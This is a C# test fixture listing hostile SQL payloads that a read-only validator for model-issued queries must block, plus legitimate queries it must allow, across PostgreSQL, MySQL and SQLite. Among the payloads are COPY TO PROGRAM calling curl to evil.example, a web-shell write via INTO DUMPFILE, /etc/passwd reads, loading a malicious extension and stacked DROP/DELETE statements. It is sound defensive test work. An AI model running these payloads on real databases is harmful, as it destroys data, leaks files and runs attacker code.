namespace Planck.Tests.Fixtures.Databases;

/// <summary>
/// A statement a model (or a member steering it) might send that must never run as written. <see cref="Dialects"/> holds
/// "postgresql", "mysql" and/or "sqlite" (strings, because this project does not reference Application). A payload with
/// <see cref="StoppedByTimeout"/> is valid read-only SQL that the validator allows; the engine's statement timeout stops it.
/// </summary>
public sealed record HostileSql(string Name, string Sql, IReadOnlySet<string> Dialects)
{
    public bool StoppedByTimeout { get; init; }

    public override string ToString() => Name;
}

/// <summary>A query the validator must allow, for the dialects it is written in.</summary>
public sealed record LegitimateSql(string Name, string Sql, IReadOnlySet<string> Dialects)
{
    public override string ToString() => Name;
}

/// <summary>Every route a write, a stacked statement, a file read, a lock or a stall can take past a read-only validator.</summary>
public static class HostileSqlPayloads
{
    public const string Postgresql = "postgresql";
    public const string Mysql = "mysql";
    public const string Sqlite = "sqlite";

    private static readonly string[] AllDialects = [Postgresql, Mysql, Sqlite];

    public static IReadOnlyList<HostileSql> All { get; } =
    [
        // Stacked statements, plain and hidden from a naive reader.
        Hostile("stacked drop", "SELECT 1; DROP TABLE users", AllDialects),
        Hostile("stacked after a line comment", "SELECT 1 -- harmless\n; DELETE FROM users", AllDialects),
        Hostile("stacked after a block comment holding a semicolon", "SELECT 1 /* ; */ ; DELETE FROM users", AllDialects),
        Hostile("stacked after a string that ends early", "SELECT 'abc'; DELETE FROM users; --'", AllDialects),
        Hostile("stacked between dollar-quoted strings", "SELECT $a$ x $a$; DELETE FROM users; SELECT $a$ y $a$", Postgresql),
        Hostile("stacked inside a dollar tag that never closes", "SELECT $a$ x $b$; DELETE FROM users", Postgresql),
        Hostile("stacked after a comment that does not nest", "SELECT 1 /* /* */ ; DROP TABLE users -- */", Mysql, Sqlite),
        Hostile("stacked after a nested comment", "SELECT 1 /* outer /* inner */ still a comment */; DROP TABLE users", Postgresql),
        Hostile("stacked after a hash comment", "SELECT 1 # comment\n; DROP TABLE users", Mysql),
        Hostile("stacked after double dash without a space", "SELECT 1 --1; DROP TABLE users", Mysql),
        Hostile("stacked behind a backslash-escaped quote", """SELECT 'a\'; DELETE FROM users; -- '""", Mysql, Postgresql),
        Hostile("stacked behind a backslash-escaped double quote", """SELECT "a\"; DELETE FROM users; -- " """, Mysql),
        Hostile("stacked before a string left open under NO_BACKSLASH_ESCAPES", """SELECT 'a\'; DELETE FROM users; SELECT '""", Mysql),
        Hostile("sleep hidden from the default reading of backslashes", """SELECT 'a\', sleep(10) -- '""", Mysql),
        Hostile("stacked transaction", "BEGIN; DELETE FROM users; COMMIT", AllDialects),
        Hostile("stacked commit", "SELECT 1; COMMIT", AllDialects),
        Hostile("executable comment", "SELECT 1 /*!50000 ; DROP TABLE users */", Mysql),
        Hostile("executable comment calling sleep", "SELECT /*! SLEEP(10) */ 1", Mysql),
        Hostile("MariaDB executable comment", "SELECT 1 /*M! ; DELETE FROM users */", Mysql),
        Hostile("stacked behind a Tcl-style SQLite parameter", "SELECT $a(') ; DROP TABLE users; --'", Sqlite),
        Hostile("stacked after a NUL character", "SELECT 1\0; DROP TABLE users", AllDialects),
        Hostile("optimizer hint that sets a variable", "SELECT /*+ SET_VAR(max_execution_time=0) */ * FROM orders", Mysql),

        // Text that cannot be read safely.
        Hostile("string never closed", "SELECT 'abc FROM users", AllDialects),
        Hostile("comment never closed", "SELECT 1 /* DROP TABLE users", AllDialects),
        Hostile("quoted name never closed", "SELECT \"abc FROM users", Postgresql, Sqlite),
        Hostile("empty", "   ", AllDialects),
        Hostile("only a comment", "-- nothing to run", AllDialects),

        // Writes.
        Hostile("insert", "INSERT INTO users (email) VALUES ('x@example.com')", AllDialects),
        Hostile("update", "UPDATE users SET role = 'Admin'", AllDialects),
        Hostile("delete", "DELETE FROM users", AllDialects),
        Hostile("merge", "MERGE INTO users u USING staging s ON u.id = s.id WHEN MATCHED THEN DELETE", Postgresql),
        Hostile("replace into", "REPLACE INTO users (id, email) VALUES (1, 'x')", Mysql, Sqlite),
        Hostile("upsert", "INSERT INTO users VALUES (1) ON CONFLICT DO NOTHING", Postgresql, Sqlite),
        Hostile("explain analyze executes", "EXPLAIN ANALYZE DELETE FROM users", Postgresql),

        // Schema and permissions.
        Hostile("drop", "DROP TABLE users", AllDialects),
        Hostile("create table as select", "CREATE TABLE stolen AS SELECT * FROM users", AllDialects),
        Hostile("alter", "ALTER TABLE users ADD COLUMN pwned int", AllDialects),
        Hostile("truncate", "TRUNCATE users", Postgresql, Mysql),
        Hostile("grant", "GRANT ALL ON users TO public", Postgresql, Mysql),

        // Data-modifying common table expressions and WITH that ends elsewhere.
        Hostile("CTE that deletes", "WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone", Postgresql),
        Hostile("CTE that updates", "WITH x AS (UPDATE users SET role = 'Admin' RETURNING id) SELECT * FROM x", Postgresql),
        Hostile("CTE that inserts", "WITH x AS (INSERT INTO audit VALUES (1) RETURNING *) SELECT 1", Postgresql),
        Hostile("WITH ending in a delete", "WITH x AS (SELECT 1) DELETE FROM users", AllDialects),
        Hostile("WITH ending in a table statement", "WITH x AS (SELECT 1) TABLE x", Postgresql),

        // SELECT INTO and files.
        Hostile("select into a new table", "SELECT * INTO stolen FROM users", Postgresql),
        Hostile("into outfile", "SELECT * FROM users INTO OUTFILE '/tmp/users.csv'", Mysql),
        Hostile("into dumpfile", "SELECT 0x3c3f706870 INTO DUMPFILE '/var/www/shell.php'", Mysql),
        Hostile("into a user variable", "SELECT email INTO @stolen FROM users LIMIT 1", Mysql),
        Hostile("copy to program", "COPY (SELECT * FROM users) TO PROGRAM 'curl http://evil.example'", Postgresql),
        Hostile("copy from a file", "COPY users FROM '/etc/passwd'", Postgresql),
        Hostile("load data", "LOAD DATA INFILE '/etc/passwd' INTO TABLE users", Mysql),

        // Row and table locks.
        Hostile("for update", "SELECT * FROM users FOR UPDATE", Postgresql, Mysql),
        Hostile("for share", "SELECT * FROM users FOR SHARE", Postgresql, Mysql),
        Hostile("for no key update", "SELECT * FROM users FOR NO KEY UPDATE", Postgresql),
        Hostile("for key share", "SELECT * FROM users FOR KEY SHARE", Postgresql),
        Hostile("lock in share mode", "SELECT * FROM users LOCK IN SHARE MODE", Mysql),
        Hostile("lock table", "LOCK TABLE users IN ACCESS EXCLUSIVE MODE", Postgresql),

        // PostgreSQL functions.
        Hostile("pg_read_file", "SELECT pg_read_file('/etc/passwd')", Postgresql),
        Hostile("pg_read_file schema-qualified", "SELECT pg_catalog.pg_read_file('/etc/passwd')", Postgresql),
        Hostile("pg_ls_dir", "SELECT * FROM pg_ls_dir('.')", Postgresql),
        Hostile("pg_sleep", "SELECT pg_sleep(10)", Postgresql),
        Hostile("pg_sleep quoted", "SELECT \"pg_sleep\"(10)", Postgresql),
        Hostile("pg_sleep spelled in Unicode escapes", "SELECT U&\"pg\\005fsleep\"(10)", Postgresql),
        Hostile("pg_sleep_for in a subquery", "SELECT id FROM orders WHERE id = (SELECT 1 FROM pg_sleep_for('10 seconds'))", Postgresql),
        Hostile("lo_import", "SELECT lo_import('/etc/passwd')", Postgresql),
        Hostile("lo_export", "SELECT lo_export(16409, '/tmp/out')", Postgresql),
        Hostile("dblink", "SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(a int)", Postgresql),
        Hostile("set_config", "SELECT set_config('statement_timeout', '0', false)", Postgresql),
        Hostile("query_to_xml runs hidden SQL", "SELECT query_to_xml('DELETE FROM users RETURNING *', true, false, '')", Postgresql),
        Hostile("table_to_xml dumps a table", "SELECT table_to_xml('users', true, false, '')", Postgresql),
        Hostile("nextval", "SELECT nextval('orders_id_seq')", Postgresql),
        Hostile("pg_terminate_backend", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Postgresql),
        Hostile("pg_advisory_lock", "SELECT pg_advisory_lock(1)", Postgresql),
        Hostile("pg_notify", "SELECT pg_notify('channel', 'payload')", Postgresql),
        Hostile("set statement timeout", "SET statement_timeout = 0", Postgresql, Mysql),
        Hostile("execute a prepared plan", "EXECUTE stolen_plan", Postgresql),
        Hostile("do block", "DO $$ BEGIN DELETE FROM users; END $$", Postgresql),

        // MySQL and MariaDB functions and variables.
        Hostile("sleep", "SELECT SLEEP(10)", Mysql),
        Hostile("sleep in a subquery", "SELECT * FROM orders WHERE id = (SELECT SLEEP(5))", Mysql),
        Hostile("benchmark", "SELECT BENCHMARK(100000000, MD5('x'))", Mysql),
        Hostile("load_file", "SELECT LOAD_FILE('/etc/passwd')", Mysql),
        Hostile("get_lock", "SELECT GET_LOCK('planck', 10)", Mysql),
        Hostile("user variable assignment", "SELECT @total := SUM(amount) FROM orders", Mysql),
        Hostile("set global", "SET GLOBAL general_log = 'ON'", Mysql),
        Hostile("MariaDB nextval", "SELECT NEXTVAL(order_seq)", Mysql),
        Hostile("MariaDB next value for", "SELECT NEXT VALUE FOR order_seq", Mysql),
        Hostile("handler", "HANDLER users OPEN", Mysql),
        Hostile("call", "CALL sys.ps_truncate_all_tables(FALSE)", Mysql),
        Hostile("do sleep", "DO SLEEP(10)", Mysql),

        // SQLite.
        Hostile("attach", "ATTACH DATABASE '/tmp/evil.db' AS evil", Sqlite),
        Hostile("pragma write", "PRAGMA writable_schema = ON", Sqlite),
        Hostile("pragma after a select", "SELECT 1; PRAGMA journal_mode = DELETE", Sqlite),
        Hostile("load_extension", "SELECT load_extension('/tmp/evil.so')", Sqlite),
        Hostile("writefile", "SELECT writefile('/tmp/x', 'data')", Sqlite),
        Hostile("readfile", "SELECT readfile('/etc/passwd')", Sqlite),
        Hostile("fts3_tokenizer", "SELECT fts3_tokenizer('simple')", Sqlite),
        Hostile("vacuum into", "VACUUM INTO '/tmp/copy.db'", Sqlite),

        // Valid read-only queries that only the engine's timeout can stop.
        Hostile("recursive CTE blow-up", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r) SELECT count(*) FROM r", AllDialects)
            with { StoppedByTimeout = true },
        Hostile("cross join blow-up", "SELECT count(*) FROM orders a CROSS JOIN orders b CROSS JOIN orders c CROSS JOIN orders d CROSS JOIN orders e", AllDialects)
            with { StoppedByTimeout = true },
    ];

    public static IReadOnlyList<LegitimateSql> Legitimate { get; } =
    [
        Allowed("plain select", "SELECT id, email FROM users WHERE active = 1 ORDER BY email LIMIT 10", AllDialects),
        Allowed("string holding a semicolon and DELETE", "SELECT 'DELETE FROM users; DROP TABLE x' AS note FROM orders", AllDialects),
        Allowed("doubled quote in a string", "SELECT 'It''s; fine' AS s", AllDialects),
        Allowed("identifiers named update and delete", "SELECT \"update\", \"delete\" FROM changes", Postgresql, Sqlite),
        Allowed("backtick identifiers named update", "SELECT `update`, `o`.`id` FROM `orders` AS `o`", Mysql, Sqlite),
        Allowed("bracket identifiers", "SELECT [order id], [update] FROM [orders]", Sqlite),
        Allowed("comments with a semicolon inside", "SELECT /* a comment; DROP TABLE x */ id FROM orders -- trailing; DELETE", AllDialects),
        Allowed("comment at the end", "SELECT id FROM orders -- the newest first", AllDialects),
        Allowed("trailing semicolon", "SELECT 1;", AllDialects),
        Allowed("trailing semicolon then a comment", "SELECT 1; -- done\n", AllDialects),
        Allowed("CTE", "WITH recent AS (SELECT * FROM orders WHERE created_at > '2024-01-01') SELECT customer_id, count(*) FROM recent GROUP BY customer_id", AllDialects),
        Allowed("two CTEs", "WITH a AS (SELECT id FROM orders), b AS (SELECT id FROM refunds) SELECT * FROM a JOIN b ON a.id = b.id", AllDialects),
        Allowed("bounded recursive CTE", "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10) SELECT sum(i) FROM n", AllDialects),
        Allowed("window function", "SELECT id, amount, rank() OVER (PARTITION BY customer_id ORDER BY amount DESC) AS r FROM orders", AllDialects),
        Allowed("replace function", "SELECT replace(email, '@', ' at ') AS masked FROM users", AllDialects),
        Allowed("columns named like keywords, qualified", "SELECT e.start, e.lock, e.handler AS owner FROM events e", AllDialects),
        Allowed("parameter placeholder", "SELECT * FROM orders WHERE id = ?", Mysql, Sqlite),
        Allowed("numbered parameter", "SELECT * FROM orders WHERE id = $1", Postgresql),
        Allowed("casts", "SELECT created_at::date AS day, amount::numeric(10,2) FROM orders", Postgresql),
        Allowed("E string with an escaped quote", """SELECT E'It\'s a line\n' AS s""", Postgresql),
        Allowed("dollar-quoted strings", "SELECT $$it's; DELETE FROM users$$ AS s, $tag$ $$ ; $tag$ AS t", Postgresql),
        Allowed("nested comment", "SELECT /* outer /* inner; DROP */ still outer */ 1", Postgresql),
        Allowed("json operators", "SELECT data->>'name' FROM events WHERE data ? 'name'", Postgresql),
        Allowed("extract and substring use FROM", "SELECT EXTRACT(YEAR FROM created_at) AS y, SUBSTRING(email FROM 2 FOR 3) FROM users", Postgresql, Mysql),
        Allowed("is distinct from", "SELECT id FROM orders WHERE status IS DISTINCT FROM 'paid'", Postgresql),
        Allowed("current_setting reads only", "SELECT current_setting('TimeZone')", Postgresql),
        Allowed("generate_series", "SELECT d::date FROM generate_series(now() - interval '7 days', now(), interval '1 day') AS d", Postgresql),
        Allowed("parenthesised union", "(SELECT id FROM orders) UNION ALL (SELECT id FROM refunds)", Postgresql, Mysql),
        Allowed("reading system variables", "SELECT @@version, @@session.time_zone", Mysql),
        Allowed("hash comment", "SELECT 1 # a comment; DROP TABLE x", Mysql),
        Allowed("double dash without a space is minus minus", "SELECT 1--1", Mysql),
        Allowed("backslash escapes in strings", """SELECT 'C:\\temp\\new' AS path, "say \\hi" AS s""", Mysql),
        Allowed("character set in a cast", "SELECT CAST(name AS CHAR CHARACTER SET utf8mb4) FROM users", Mysql),
        Allowed("sqlite version function", "SELECT sqlite_version()", Sqlite),
        Allowed("json_each table function", "SELECT value FROM json_each('[1,2,3]')", Sqlite),
    ];

    public static HostileSql Named(string name) => All.Single(payload => payload.Name == name);

    public static LegitimateSql LegitimateNamed(string name) => Legitimate.Single(query => query.Name == name);

    private static HostileSql Hostile(string name, string sql, params string[] dialects) =>
        new(name, sql, dialects.ToHashSet(StringComparer.Ordinal));

    private static LegitimateSql Allowed(string name, string sql, params string[] dialects) =>
        new(name, sql, dialects.ToHashSet(StringComparer.Ordinal));
}
